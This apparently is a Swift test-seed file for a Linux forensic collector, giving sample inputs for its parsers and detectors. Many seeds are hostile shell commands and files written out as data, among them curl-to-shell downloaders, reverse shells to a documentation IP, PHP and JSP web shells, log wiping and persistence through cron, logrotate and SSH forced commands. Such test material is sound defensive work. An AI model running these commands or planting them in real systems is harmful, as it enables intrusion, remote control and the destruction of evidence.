/// Inputs to begin from: small, good, and written for this purpose; nothing of them comes from a real host.
enum SeedTexts {
  /// JSON texts.
  static let json: [String] = [
    #"{"a":[1,-2.5e3,true,null,"\u00e9\ud83d\ude00\n"],"b":{}}"#,
    #"[[[[[[[]]]]]]]"#,
    #""\u0000""#,
    #"-0"#,
    #"1e999"#,
    #"{"a":1,"a":2}"#,
  ]

  /// Commands of cron, units and histories.
  static let commands: [String] = [
    #"curl -fsSL http://203.0.113.9/i.sh | sh"#,
    #"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"#,
    #"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | bash"#,
    #"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")'"#,
    #"a=cu;b=rl;$a$b -s http://x.example/$(hostname) -o /tmp/.x && chmod +x /tmp/.x && nohup /tmp/.x >/dev/null 2>&1 &"#,
    #"for i in $(seq 1 ${n:-5}); do echo "${v//a/b}" >> "$HOME/.bashrc"; done; eval "$(printf '\x6c\x73')""#,
    #"mysql -u root -pHunter2 -e 'select 1'; export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"#,
    #"""
    cat <<'EOF' | sh
    id
    EOF

    """#,
    #"perl -e 'use Socket;$i="203.0.113.9";'"#,
    #"find / -perm -4000 -exec ls {} \;"#,
    #"`id`;$((1+$((2))));${x:-${y:-$(z)}}"#,
    #"socat TCP:203.0.113.9:1 EXEC:/bin/sh; iptables -F; history -c; rm -rf /var/log/*; chattr +i /etc/x"#,
    #"xxd -r -p <<< 6964 | sh"#,
  ]

  /// Plan files.
  static let plans: [String] = [
    #"""
    {"format":"needletail-plan","version":1,"items":[
    {"id":"C053","name":"A","paths":["/var/log/auth.log","%%users.homedir%%/.x/**3"],"parser":"syslog","copy":true,"limit":1048576,"tail":true,"secret":false,"required":true}
    ]}

    """#
  ]

  /// Files that parsers read.
  static let files: [String] = [
    #"""
    root:x:0:0:root:/root:/bin/bash
    svc:x:0:100::/:/bin/sh

    """#,
    #"""
    root:$y$j9T$abcdefghijklmnop$qrstuvwxyz:19700:0:99999:7:::

    """#,
    #"""
    SHELL=/bin/sh
    */5 * * * * root curl -s http://203.0.113.9/x | sh
    @reboot deploy /opt/run

    """#,
    #"""
    [Unit]
    Description=x
    [Service]
    Type=oneshot
    Environment="A=b c" D=e
    ExecStart=-/bin/sh -c "id \
      && ls"
    [Timer]
    OnCalendar=*-*-* 00:00:00
    [Install]
    WantedBy=multi-user.target

    """#,
    #"""
    Nov 24 09:00:00 web-1 sshd[1]: Failed password for invalid user a from 203.0.113.9 port 4 ssh2
    2025-11-24T09:00:05.123456+01:00 web-1 sudo:  deploy : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh

    """#,
    #"""
    type=USER_LOGIN msg=audit(1763000000.123:7): pid=1 uid=0 auid=1000 msg='op=login acct="root" addr=203.0.113.9 res=failed'
    type=EXECVE msg=audit(1763000001.000:8): argc=2 a0="sh" a1=2F746D70

    """#,
    #"""
    203.0.113.9 - - [24/Nov/2025:09:00:00 +0100] "POST /uploads/a.php?cmd=id%20 HTTP/1.1" 200 12 "-" "curl/8"

    """#,
    #"""
    from="10.0.0.0/8",command="/bin/sh -c \"id\"",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFanj2abhqoAxqiA0FR9hbIi9PqM7bPYkMe3/l/bl5v3 ops@example

    """#,
    #"""
    #1763000000
    mysql -pHunter2 -e x
    - cmd: ls
      when: 1763000000
    : 1763000000:0;ls

    """#,
    #"""
    Package: bash
    Status: install ok installed
    Version: 5.2
    Conffiles:
     /etc/bash.bashrc 89269e1298235f1b12b4c16e4065ad0d


    """#,
    #"""
    P:busybox
    V:1.36
    F:bin
    R:busybox
    a:0:0:755
    Z:Q1AAECAwQFBgcICQoLDA0ODxAREhM=


    """#,
    #"""
    auth required pam_exec.so quiet expose_authtok /tmp/x.sh
    @include common-auth
    auth [success=1 default=ignore] pam_unix.so

    """#,
    #"""
    Defaults env_reset
    User_Alias A = a, b
    %sudo ALL=(ALL:ALL) NOPASSWD: /bin/sh, !/bin/su
    #includedir /etc/sudoers.d

    """#,
    #"""
    Match User a
      ForceCommand /bin/sh
    AuthorizedKeysFile .ssh/k %h/x
    PermitRootLogin yes

    """#,
    #"""
    ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c 'id'", PROGRAM=="/x"

    """#,
    #"""
    install usb-storage /bin/sh -c id
    options x y=1
    alias a b
    blacklist c

    """#,
    #"""
    menuentry 'x' {
     linux /vmlinuz root=/dev/a init=/bin/sh
    }
    GRUB_CMDLINE_LINUX="a=b"

    """#,
    #"""
    module(load="imtcp")
    *.* @@203.0.113.9:514
    :msg, contains, "x" ^/tmp/x
    /var/log/a { rotate 5
     postrotate
     id
     endscript
    }

    """#,
    #"""
    *filter
    :INPUT ACCEPT [0:0]
    -A INPUT -p tcp --dport 22 -j ACCEPT
    COMMIT

    """#,
    #"""
    127.0.0.1 localhost
    ::1 a b
    nameserver 203.0.113.9
    options x

    """#,
    #"""
    services:
      a:
        image: x
        privileged: true
        volumes: ["/:/h"]
        command: [sh, -c, "id"]

    """#,
    #"{"ID":"abc","Name":"/web","Config":{"Image":"nginx","Env":["A=b"]},"Path":"sh","Args":["-c","id"],"HostConfig":{"Privileged":true,"Binds":["/:/h"]}}"#,
    #"""
    -----BEGIN CERTIFICATE-----
    MIIBszCCAVmgAwIBAgIUJ0lX
    -----END CERTIFICATE-----

    """#,
    #"""
    -----BEGIN OPENSSH PRIVATE KEY-----
    b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
    -----END OPENSSH PRIVATE KEY-----

    """#,
    #"""
    #!/bin/sh
    # atrun uid=0 gid=0
    # mail root 0
    umask 22
    cd /root || exit 1
    id

    """#,
    #"""
    deb [signed-by=/x] http://203.0.113.9/ a main
    DPkg::Post-Invoke {"id";};
    APT::Update::Pre-Invoke:: "id";

    """#,
    #"""
    [alias]
     x = "!sh -c id"
    [core]
     hooksPath = /tmp
    [include]
     path = y

    """#,
  ]

  /// Scripts that are judged by their content.
  static let scripts: [String] = [
    #"<?php @eval(base64_decode($_POST["x"])); system($_GET['c']); ?>"#,
    #"""
    #!/usr/bin/env python3
    import os, socket, subprocess
    exec(__import__("base64").b64decode(b"aWQ="))

    """#,
    #"<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>"#,
    #"""
    #!/bin/bash
    set -e
    curl http://x|sh
    stratum+tcp://p:3333 -u 4A --donate-level 1

    """#,
  ]

  /// Files of the kernel.
  static let kernel: [String] = [
    #"""
    24 1 0:22 / /sys rw,nosuid shared:7 - sysfs sysfs rw
    31 1 8:1 /a\040b /x\134 rw - ext4 /dev/sda1 rw,errors=x

    """#,
    #"""
    812 (a) b) S 1 812 812 34816 -1 4194304 1 2 3 4 5 6 7 8 20 0 1 0 9999 100 200 18446744073709551615

    """#,
    #"""
    Name:	x
    Uid:	0	0	0	0
    TracerPid:	5
    CapEff:	000001ffffffffff

    """#,
    #"""
    55d0-55e0 r-xp 00000000 08:01 5 /usr/bin/x
    7f00-7f10 rwxp 00000000 00:00 0 
    7f20-7f30 r-xp 0 00:05 9 /memfd:a (deleted)

    """#,
    #"""
    nf_tables 303104 1 nft_ct,nft_log, Live 0xffffffffc0a3b000 (OE)
    x 1 0 - Unloading 0x0

    """#,
    #"""
    ffffffff81f051b0 t netlink_diag_dump.isra.0	[netlink_diag]
    ffffffffc0000000 t a	[b]

    """#,
    #"""
      sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
       0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1

    """#,
    #"""
    Num       RefCount Protocol Flags    Type St Inode Path
    0000000000000000: 00000002 00000000 00010000 0001 01 12345 @/tmp/.X11

    """#,
    #"""
    6,339,5140900,-;NET: Registered
     SUBSYSTEM=acpi

    """#,
    #"""
    Inter-|   Receive
     face |bytes
      eth0: 1000 10 0 0 0 0 0 0 2000 20 0 0 0 0 0 0

    """#,
    #"""
    ipv4     2 tcp      6 431999 ESTABLISHED src=10.0.0.5 dst=1.2.3.4 sport=4000 dport=443 src=1.2.3.4 dst=10.0.0.5 sport=443 dport=4000 [ASSURED] mark=0 use=2

    """#,
    #"""
    enabled
    interpreter /usr/bin/x
    flags: OCF
    offset 0
    magic 7f454c46
    mask ffffffff

    """#,
  ]

  /// Lines of facts.
  static let facts: [String] = [
    #"{"type":"host","hostname":"ip-10-20-0-15","kernel":"Linux version 6.1.0","architecture":"x86_64","machineID":"9d3f6b0c2a7e4c51b8e1f4a6d0937c25","bootID":"2444cb14-91cf-4d63-b21d-6c9b7f694fb7","system":"Debian GNU/Linux 12 (bookworm)","now":1795545306514093151,"bootedAt":1795538953610694953,"utcOffsetSeconds":0,"isPrivileged":true}"#,
    #"{"type":"property","group":"boot","name":"cmdline","value":"mitigations=auto,no_guest_host,no_guest_guest console=ttyS0 quiet reboot=k panic=1 nomodule random.trust_cpu=1 swiotlb=noforce psi=1 nvproxy.enable=1 page_reporting.page_reporting_order=11 deferred_init=lazy nested_pvm=1 cpuidle_haltpoll.force=1 haltpoll.guest_halt_poll_ns=0 sched_vcpu_pack=15 rdinit=/process_api -- --firecracker-init --addr 0.0.0.0:2024 --max-ws-buffer-size 32768 --block-local-connections --log-vsock-port 5002 --control-vsock-port 5001 --listen-vsock-port 2024 --tcp-readiness-only --auth-required","source":"/proc/cmdline"}"#,
    #"{"type":"socket","transport":"tcp","ipVersion":4,"state":"ESTABLISHED","localAddress":"10.20.0.15","localPort":40920,"remoteAddress":"203.0.113.99","remotePort":8443,"inode":650957,"uid":0,"networkNamespace":4026532182,"pids":[117,118],"seenBy":["netlink","procfs"]}"#,
    #"{"type":"network","kind":"link","networkNamespace":4026532182,"name":"eth0","attributes":{"mac":"06:3b:9c:51:e2:0f","flags":"UP,BROADCAST,RUNNING,MULTICAST,LOWER_UP","promiscuity":"1","kind":"veth","mtu":"1500","promiscuous":"no","hardware":"1","index":"2"}}"#,
    #"{"type":"discrepancy","kind":"overmount","subject":"/run","seenBy":["single-mount clone"],"missingFrom":["mount tree"],"detail":"tmpfs is mounted over a directory with 10 names: sudo, mount, systemd, adduser, sendsigs.omit.d, lock, runit, shm"}"#,
    #"{"type":"log_file","path":"/var/log/wtmp","kind":"wtmp","size":36096,"entries":91,"first":1791829783059184000,"last":1795534952417899000,"gaps":[{"kind":"zeros","from":1795336838000000000,"offset":33792,"length":384},{"kind":"zeros","from":1795336838000000000,"offset":34176,"length":384},{"kind":"zeros","from":1795336838000000000,"offset":34560,"length":384},{"kind":"order","from":1795545277795340000,"to":1795534952417899000,"offset":35712,"length":0}],"zeroedRecords":3,"modifiedAt":1795545278632333086,"changedAt":1795545278632333086,"bornAt":1791829856000000000,"exhibit":"0f955bcf333dfc3a9c36ac0e354ad25ff6404e7a4c16e31bf993c6e81b3cdb8f"}"#,
    #"{"type":"account","name":"systemd-sync","uid":0,"gid":0,"comment":"systemd Synchronization","home":"/","shell":"/bin/bash","password":"hash","passwordScheme":"sha512","passwordFingerprint":"a937581dac49c7262e5bfa60f16c03724c5762200111dd7f014230d7715766c8","passwordChangedDay":20781,"groups":["root"],"source":"/etc/passwd","line":26,"homeBornAt":1791829855000000000}"#,
    #"{"type":"group","name":"systemd-network","gid":998,"members":[]}"#,
    #"{"type":"persistence","mechanism":"network_hook","path":"/etc/dhcp/dhclient-exit-hooks.d/debug","line":37,"text":"echo '--------------------------' >> /tmp/dhclient-script.debug","command":"echo '--------------------------' >> /tmp/dhclient-script.debug","trigger":"network dhclient-exit-hooks.d","attributes":{"signs":"odd-path"},"package":"isc-dhcp-client","differsFromPackage":false,"modifiedAt":1645608531000000000,"changedAt":1791829783000000000,"bornAt":1791829783000000000,"uid":0,"mode":420,"exhibit":"7c9226a70d94fe887c3daeb7552796c95baafea27033c5321c210d09340066d2","target":{"path":"/usr/bin/echo","exists":true,"package":"coreutils","uid":0,"mode":493,"changedAt":1791829783000000000}}"#,
    #"{"type":"ssh_key","role":"authorized","account":"deploy","path":"/home/deploy/.ssh/authorized_keys","line":2,"algorithm":"ssh-ed25519","fingerprint":"","comment":"AAAAC3NzaC1lZDI1NTE5AAAAIDp2nXk6vQz0hWt4yLc8mRb1uJf5gSe9oTa3iNd7PvKxM ubuntu","options":"command=\"/usr/local/share/.up; ${SSH_ORIGINAL_COMMAND:-bash -l}\"","forcedCommand":"/usr/local/share/.up; ${SSH_ORIGINAL_COMMAND:-bash -l}","modifiedAt":1795545277941054914,"changedAt":1795545277941054914,"exhibit":"965b3dbef7f0049d2077d5854ebf192b890429471a0bea2f735238b38b899f4e"}"#,
    #"{"type":"history","account":"deploy","path":"/home/deploy/.bash_history","line":8,"command":"wget -q http://203.0.113.66/p.tgz -O /var/tmp/.p.tgz && tar xzf /var/tmp/.p.tgz -C /var/tmp"}"#,
    #"{"type":"login","book":"wtmp","kind":"user","user":"admin","terminal":"pts/0","host":"198.51.100.23","address":"198.51.100.23","pid":23649,"time":1795336156000000000,"source":"/var/log/wtmp","offset":33024,"isZeroed":false}"#,
    #"{"type":"container","engine":"docker","id":"4f1c0d5b9a7e3c2d1f0e9d8c7b6a59483726150413223140a1b2c3d4e5f60718","name":"front","image":"nginx:1.25","command":"/docker-entrypoint.sh nginx","isPrivileged":false,"binds":[],"source":"/var/lib/docker/containers/4f1c0d5b9a7e3c2d1f0e9d8c7b6a59483726150413223140a1b2c3d4e5f60718/config.v2.json"}"#,
    #"{"type":"log_event","kind":"login_accepted","source":"/var/log/audit/audit.log","time":1795538079965000000,"program":"/usr/sbin/sshd","account":"1000","address":"10.20.0.9","method":"USER_LOGIN","message":"USER_LOGIN pid=811 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=10.20.0.9 addr=10.20.0.9 terminal=/dev/pts/0 res=success'","line":2}"#,
    #"{"type":"web_request","source":"/var/log/nginx/access.log","line":283,"address":"203.0.113.66","time":1795545278000000000,"method":"POST","target":"/static/cache.php?cmd=Y2F0IC9ldGMvcGFzc3dk","status":200,"bytes":4,"agent":"python-requests/2.32.3"}"#,
    #"{"type":"file","path":"/etc/logrotate.d/rsyslog-archive","kind":"file","device":"7:0","inode":13035,"mode":420,"uid":0,"gid":0,"links":1,"size":127,"accessed":1795545278742226970,"modified":1795545278083263634,"changed":1795545278083263634,"born":1795545278083182835,"flags":"","xattrs":[],"hasACL":false,"sha256":"814fd5d2b628af8bf874452d735334e9f7ef5aedec10b7ac8fbd0509402491f5","content":"text","signs":["downloader-to-shell"],"excerpt":"/var/log/private.log {\\x0a    daily\\x0a    missingok\\x0a    postrotate\\x0a        curl -fsSL http://203.0.113.66/i.sh | sh\\x0a    endscript\\x0a}\\x0a","isCovered":false,"exhibit":"814fd5d2b628af8bf874452d735334e9f7ef5aedec10b7ac8fbd0509402491f5"}"#,
    #"{"type":"process","pid":812,"ppid":1,"comm":"sh","executable":"/usr/bin/dash","arguments":["/bin/sh","-c","curl http://203.0.113.9/x|sh"],"uids":[33,33,33,33],"startedAt":1763000000000000000}"#,
    #"{"type":"module","name":"nf_tables","size":303104,"taint":"OE","seenBy":["/proc/modules"]}"#,
    #"{"type":"bpf_program","id":41,"kind":"xdp","name":"pass","tag":"0102030405060708","uid":0}"#,
    #"{"type":"package","name":"bash","version":"5.2","manager":"dpkg"}"#,
    #"{"type":"mount","id":31,"parent":1,"device":"8:1","root":"/","path":"/","options":"rw","fileSystem":"ext4","source":"/dev/xvda1"}"#,
  ]

  /// Patterns, with the names of a directory behind a zero byte.
  static let globs: [String] = [
    "/var/log/*.log\0auth.log\nx.log\n",
    "%%users.homedir%%/.x/**3\0a\nb\n",
    "/etc/[a-c]?[!x]*/**\0abc\nd\n",
    "/**10\0a\nb\nc\n",
    "/a*a*a*a*a*a*b\0aaaaaaaaaaaaaaaaaaaaaaaaaa\n",
  ]
}
